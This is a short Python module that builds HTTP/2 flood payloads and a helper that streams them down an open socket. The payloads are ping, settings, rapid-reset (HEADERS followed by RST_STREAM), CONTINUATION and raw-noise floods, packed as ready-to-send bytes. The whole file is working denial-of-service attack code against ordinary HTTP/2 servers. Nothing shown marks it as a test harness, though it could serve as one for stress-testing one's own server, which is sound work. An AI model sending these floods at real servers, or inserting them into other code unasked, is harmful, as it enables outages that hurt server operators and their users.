"""Floods of HTTP/2 frames, as bytes to follow the preface."""

import struct
import time


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4)
# ":method: POST", ":path: /" and ":scheme: http" by their numbers in HPACK's static table.
HEADERS = bytes([0x83, 0x84, 0x86])
FLOODS = {
    "ping": frame(6, payload=b"12345678") * 20_000,
    "settings": frame(4, payload=struct.pack(">HI", 3, 100)) * 20_000,
    "rapid reset": b"".join(
        frame(1, 4, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8)) for stream in range(1, 20_001, 2)
    ),
    "continuation": frame(1, 0, 1, HEADERS) + frame(9, 0, 1, b"\x00" * 1000) * 2_000,
    "noise": bytes(range(256)) * 100,
}


def pour(connection, content, seconds=3):
    """Send what the other side takes of it within the time, or until it closes."""
    connection.setblocking(False)
    sent, until_s = 0, time.monotonic() + seconds
    try:
        while sent < len(content) and time.monotonic() < until_s:
            try:
                sent += connection.send(content[sent : sent + 65536])
            except BlockingIOError:
                time.sleep(0.01)
    except ConnectionError:
        pass
